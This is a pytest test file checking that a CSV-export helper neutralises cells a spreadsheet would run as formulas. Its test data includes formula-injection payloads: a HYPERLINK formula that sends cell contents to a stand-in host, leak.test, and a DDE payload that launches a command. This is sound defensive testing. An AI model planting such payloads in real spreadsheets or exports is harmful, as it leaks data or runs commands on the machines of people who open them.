"""CSV tables are safe to open in a spreadsheet: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from helpers.outputs import FORMULA_TRIGGERS, neutralise_cell, unescape_cell, write_table

HOSTILE_CELLS = [
    '=HYPERLINK("http://leak.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def spreadsheet_cells(path):
    """Read a CSV as a spreadsheet does: fields split at commas, quotes honoured."""
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def runs_as_formula(cell: str) -> bool:
    """What Excel, LibreOffice and Sheets do with an imported cell: one that starts with a
    formula character and is not a plain number is run."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(FORMULA_TRIGGERS)


def test_every_formula_cell_and_header_is_neutralised(tmp_path):
    df = pd.DataFrame({
        "outlet": HOSTILE_CELLS,
        "=evil_column": ["plain"] * len(HOSTILE_CELLS),
        "score": [-0.5, 1.0, -2.0, 0.0, 3.5, -1.25, 2.0],
        "n": range(len(HOSTILE_CELLS)),
    })
    path = write_table(df, tmp_path, "t.csv")
    rows = spreadsheet_cells(path)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if runs_as_formula(c)]
    header, body = rows[0], rows[1:]
    assert header == ["outlet", "'=evil_column", "score", "n"]
    assert [row[0] for row in body] == ["'" + c.replace("\r", "\n") for c in HOSTILE_CELLS]
    assert len(body) == len(HOSTILE_CELLS)  # a carriage return did not start a row
    assert [row[2] for row in body] == ["-0.5", "1.0", "-2.0", "0.0", "3.5", "-1.25", "2.0"]  # numbers stay numbers


def test_the_text_is_given_back_exactly(tmp_path):
    plain = ["Al Jazeera", "", "a-b", "x=y", "'quoted'", None]
    path = write_table(pd.DataFrame({"outlet": HOSTILE_CELLS + plain}), tmp_path, "t.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)["outlet"].map(unescape_cell)
    given_back = [c.replace("\r", "\n") for c in HOSTILE_CELLS]  # CR is written as LF
    assert list(back) == [*given_back, "Al Jazeera", "", "a-b", "x=y", "'quoted'", ""]


@pytest.mark.parametrize("value", [1, -1.5, None, pd.Timestamp("2024-01-01")])
def test_non_text_values_are_untouched(value):
    assert neutralise_cell(value) is value


def test_input_table_is_not_modified(tmp_path):
    df = pd.DataFrame({"outlet": ["=1+1"]})
    write_table(df, tmp_path, "t.csv")
    assert df["outlet"][0] == "=1+1"


@pytest.mark.parametrize("dtype", ["string", "category", "string[pyarrow]"])
def test_string_and_category_columns_are_neutralised(tmp_path, dtype):
    df = pd.DataFrame({"outlet": pd.Series(["=1+1", "ok"], dtype=dtype)})
    rows = spreadsheet_cells(write_table(df, tmp_path, "t.csv"))
    assert rows[1:] == [["'=1+1"], ["ok"]]


def test_no_csv_of_a_hostile_build_holds_a_formula(written_report):
    """Every table every notebook writes, from a corpus whose outlet, headline and
    sentences start with formula characters."""
    _, out = written_report
    tables = sorted((out / "data").glob("*.csv"))
    assert len(tables) >= 20
    seen_escaped = 0
    for path in tables:
        for row in spreadsheet_cells(path):
            for cell in row:
                assert not runs_as_formula(cell), (path.name, cell[:60])
                seen_escaped += cell.startswith("'=HYPERLINK")
    assert seen_escaped > 0  # the hostile outlet did reach the tables, escaped
